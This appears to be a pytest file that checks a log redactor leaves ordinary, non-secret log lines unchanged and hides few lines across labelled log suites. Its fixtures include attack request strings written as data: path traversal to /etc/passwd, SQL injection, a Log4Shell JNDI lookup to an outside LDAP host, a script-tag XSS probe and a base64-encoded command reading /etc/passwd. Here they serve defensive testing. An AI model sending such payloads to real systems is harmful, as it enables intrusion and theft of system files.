"""What a log is full of and is no secret stays as it is."""

from pathlib import Path

import pytest

from models.redact import RedactSettings, redactor_for

REDACTOR = redactor_for(b"key", RedactSettings())
SUITES = Path(__file__).parents[3] / "eval/suites"


@pytest.mark.parametrize(
    "text",
    [
        "GET /assets/app.3f9c2a7be41d.js?v=20261121 HTTP/1.1",
        "GET /static/chunk-vendors~main.8e1f0a9c7d.css HTTP/1.1",
        "GET /repo/commit/9fceb02d0ae598e95dc970b74767f19372d61af8 HTTP/1.1",
        "GET /api/orders/3fa85f64-5717-4562-b3fc-2c963f66afa6/items HTTP/1.1",
        'ETag: "33a64df551425fcc55e4d42a148795d9f25f89d4"',
        'If-None-Match: W/"0815-18a3b2c4d5e"',
        "GET /x.js?_=1699999999999 HTTP/1.1",
        "GET /product/4006381333931 HTTP/1.1",
        "GET /item?id=123456789012&page=2&sort=name HTTP/1.1",
        "GET /img/P1000234_small_1024x768.jpg HTTP/1.1",
        "GET /wp-content/themes/twentytwentyfour/style.css?ver=1.0.3 HTTP/2.0",
        "2026-11-21T10:15:36.123456Z 2026/11/21 10:15:36 1763719200.123",
        "[21/Nov/2026:10:15:36 +0900] 203.0.113.7 2001:db8::1 10.0.0.1:8080",
        "sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 Version/18.6 Mobile/15E148",
        "Failed password for invalid user admin from 203.0.113.7 port 52144 ssh2",
        "Accepted publickey for deploy from 192.0.2.1 port 22 ssh2: ED25519 SHA256:short",
        "pam_unix(sshd:session): session opened for user root(uid=0) by (uid=0)",
        "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=192.0.2.1 user=root",
        "sudo: taro : TTY=pts/0 ; PWD=/home/taro/site2 ; USER=root ; COMMAND=/usr/bin/apt update",
        "type=SYSCALL msg=audit(1763719200.123:456): arch=c000003e syscall=59 success=yes exit=0 key=(null)",
        'nginx: [error] 1234#1234: *56789 open() "/srv/www/favicon.ico" failed (2: No such file or directory)',
        'AH01617: user admin: authentication failure for "/private": Password Mismatch',
        'PHP Warning: Undefined array key "token" in /srv/www/index.php on line 42',
        "GET /login?error=invalid_password&code=401&state=failed HTTP/1.1",
        "GET /search?q=how+to+reset+my+password&lang=ja HTTP/1.1",
        "GET /docs/api-key-rotation/secret-manager/token-lifetimes.html HTTP/1.1",
        "GET /reset/style.css HTTP/1.1",
        "GET /confirm/order-complete-thank-you HTTP/1.1",
        "GET /share/how-to-brew-green-tea HTTP/1.1",
        "GET /download/akashi-1.2.3-linux-x86_64.tar.gz HTTP/1.1",
        "GET /npm/@scope/name@1.2.3/dist/index.min.js HTTP/1.1",
        "GET /icons/logo@2x.png HTTP/1.1",
        "GET /?utm_source=mail&utm_medium=newsletter&utm_campaign=autumn-2026 HTTP/1.1",
        "GET /a?next=%2Faccount%2Forders%3Fpage%3D2%26sort%3Dasc HTTP/1.1",
        "GET /%E6%97%A5%E6%9C%AC%E8%AA%9E/%E8%A3%BD%E5%93%81?q=%E3%81%8A%E8%8C%B6 HTTP/1.1",
        "GET /index.php?page=../../../../etc/passwd HTTP/1.1",
        "GET /?id=1%20UNION%20SELECT%20username%2Cemail%20FROM%20users-- HTTP/1.1",
        "GET /?x=${jndi:ldap://203.0.113.9:1389/a} HTTP/1.1",
        "GET /?x=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1",
        "GET /?cmd=Y2F0IC9ldGMvcGFzc3dk HTTP/1.1",
        "GET /?object=VXNlcjoxMjM0NTY3OA== HTTP/1.1",
        "password authentication failed; token expired; secret rotated; session closed; key rejected",
        "token: invalid, password: null, secret=[FILTERED], password=********, api_key: ${API_KEY}, token={{token}}",
        "max_tokens=4096 total_tokens: 512 key=access keyboard=qwertz",
        "state=running code=200 code=not_found session=3 nonce=1 sign=true sig=SIGTERM",
        "traceparent: 00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01",
        "arn:aws:iam::123456789012:role/service-role/backup i-0abcd1234ef567890 vpc-0a1b2c3d4e5f67890",
    ],
)
def test_stays(text: str) -> None:
    assert REDACTOR.redact(text) == text


# In all suites of labelled logs; one line in 450, each with something that is a secret or looks like nothing else:
# reset tokens, sign-in codes, session ids, JSON web tokens, SAML messages, mail addresses, telephones, an IBAN.
HIDDEN_LINES = 40


@pytest.mark.slow
def test_logs_stay_readable() -> None:
    logs = [path.read_text(errors="replace") for path in sorted(SUITES.glob("*/logs/*"))]
    pairs = [(a, b) for log in logs for a, b in zip(log.split("\n"), REDACTOR.redact(log).split("\n"), strict=True)]
    assert len(pairs) > 15_000
    assert len([a for a, b in pairs if a != b]) <= HIDDEN_LINES
